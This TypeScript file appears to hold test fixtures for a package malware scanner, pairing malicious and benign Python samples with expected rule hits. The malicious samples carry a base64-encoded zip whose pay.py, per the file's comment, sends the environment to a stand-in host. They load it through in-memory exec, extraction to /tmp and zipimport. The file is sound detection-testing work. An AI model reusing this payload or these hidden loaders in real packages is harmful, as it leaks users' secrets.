import type { Samples } from '../contract.ts';
import { hide, manifest, quiet, wheel } from '../samples-kit.ts';

/** A zip with `pay.py`, which sends the environment to a host below weir.test. */
const PAY =
  'UEsDBBQAAAAIAIMYIliFcSGgYgAAAHgAAAAGAAAAcGF5LnB5VYxBCoUwDAX3PUV2tiApuBQ8jLYBA9rUNOr17V/+3RuGeXxWUQNpI9x6HLyh0nVTM5dXW2EBpao+czIvDak8rFJC6CtJJh/cf4UdpVLxw25W2xxjmvAlVrRuIw0j/H6D+wBQSwECFAMUAAAACACDGCJYhXEhoGIAAAB4AAAABgAAAAAAAAAAAAAAgAEAAAAAcGF5LnB5UEsFBgAAAAABAAEANAAAAIYAAAAAAA==';
/** A zip with `words.txt`. */
const WORDS =
  'UEsDBBQAAAAIAIMYIlg3ZBgqEAAAAA4AAAAJAAAAd29yZHMudHh0y89LVSgpz1coyShKTeUCAFBLAQIUAxQAAAAIAIMYIlg3ZBgqEAAAAA4AAAAJAAAAAAAAAAAAAACAAQAAAAB3b3Jkcy50eHRQSwUGAAAAAAEAAQA3AAAANwAAAAAA';
/** A zip with `helper.py`, which shouts. */
const HELPER =
  'UEsDBBQAAAAIAIMYIlgVV3WdLQAAAC8AAAAJAAAAaGVscGVyLnB5S0lNUyjOyC8t0ShJrSjRtOJSAIKi1JLSojwFkIheaUFBapGGpoK2grqiOhcAUEsBAhQDFAAAAAgAgxgiWBVXdZ0tAAAALwAAAAkAAAAAAAAAAAAAAIABAAAAAGhlbHBlci5weVBLBQYAAAAAAQABADcAAABUAAAAAAA=';

const module = (zip: string, code: string): ReturnType<typeof wheel> =>
  wheel(`import base64, io, sys, zipfile, zipimport\nD = base64.b64decode("${zip}")\n${code}\n`);
const at = (rule: string, line: number) => [
  { rule, file: 'own/__init__.py', line, severity: 'high' as const },
];

/** Archives and files that a source holds as constants. */
export const HELD: Samples = {
  malicious: [
    {
      name: 'Python: a module of an archive that the source holds',
      files: module(
        PAY,
        'with zipfile.ZipFile(io.BytesIO(D)) as z:\n    exec(z.open(z.namelist()[0]).read())',
      ),
      expected: at('decoded-code', 4),
    },
    {
      name: 'Python: an archive that the source unpacks and imports from',
      files: module(
        PAY,
        "zipfile.ZipFile(io.BytesIO(D)).extractall('/tmp/own')\nsys.path.insert(0, '/tmp/own')\nimport pay",
      ),
      expected: at('dropped-file', 4),
    },
    {
      name: 'Python: an archive that the source writes and imports from',
      files: module(
        PAY,
        "open('/tmp/own.zip', 'wb').write(D)\nzipimport.zipimporter('/tmp/own.zip').load_module('pay')",
      ),
      expected: at('dropped-file', 4),
    },
  ],
  benign: [
    quiet('settings that are seeded beside programs that are started', {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const fs = require('fs'), path = require('path'), cp = require('child_process');\nfs.writeFileSync(path.join(__dirname, 'root.json'), Buffer.from('${hide('{"signed":{"version":1,"roles":{}}}')}', 'base64'));\ncp.spawn('git', ['status']);\n`,
    }),
    quiet(
      'Python: words of an archive that the source holds',
      module(
        WORDS,
        "def words():\n    return zipfile.ZipFile(io.BytesIO(D)).read('words.txt').decode().split()",
      ),
    ),
    quiet(
      'Python: words that the source unpacks',
      module(WORDS, 'def unpack(folder):\n    zipfile.ZipFile(io.BytesIO(D)).extractall(folder)'),
    ),
    quiet(
      'Python: a module that the source unpacks where it is told to',
      module(HELPER, 'def unpack(folder):\n    zipfile.ZipFile(io.BytesIO(D)).extractall(folder)'),
    ),
  ],
};
